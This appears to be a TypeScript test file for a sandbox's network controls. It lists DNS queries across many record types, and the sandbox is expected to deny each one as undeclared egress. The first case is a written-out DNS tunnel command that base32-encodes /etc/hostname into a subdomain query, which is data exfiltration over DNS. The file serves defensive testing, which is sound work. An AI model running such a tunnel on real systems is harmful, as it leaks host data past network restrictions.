import type { Attack } from './rig/case.ts'
import { NO_POLICY } from './rig/controls.ts'
import { family } from './rig/family.ts'
import { DIG } from './rig/kit.ts'

const TYPES = [
  ...['A', 'AAAA', 'TXT', 'NULL', 'MX', 'ANY', 'PTR', 'SVCB', 'HTTPS', 'CNAME', 'NS', 'SOA', 'SRV', 'NAPTR'],
  ...['CAA', 'TLSA', 'SSHFP', 'DS', 'DNSKEY', 'HINFO', 'LOC', 'RRSIG', 'TYPE300', 'TYPE65280', 'TYPE65535'],
]

const attacks: readonly Attack[] = [
  {
    row: 1,
    title: 'TXT tunnel with what the sandbox can read',
    script: ({ domain }) => `${DIG} TXT $(base32 -w0 </etc/hostname | tr -d =).${domain}`,
    denied: { in: 'dns', reason: 'dns-undeclared', severity: 'medium' },
  },
  ...TYPES.map((type): Attack => {
    return {
      row: 2,
      title: `${type} query`,
      script: ({ domain }) => `${DIG} ${type} x.${domain}`,
      denied: {
        in: 'dns',
        reason: 'dns-undeclared',
        row: ({ domain }) => ({ name: `x.${domain}`, type: type === 'TYPE300' ? 'TYPE300' : type }),
      },
    }
  }),
]

family({ attacks, control: NO_POLICY })
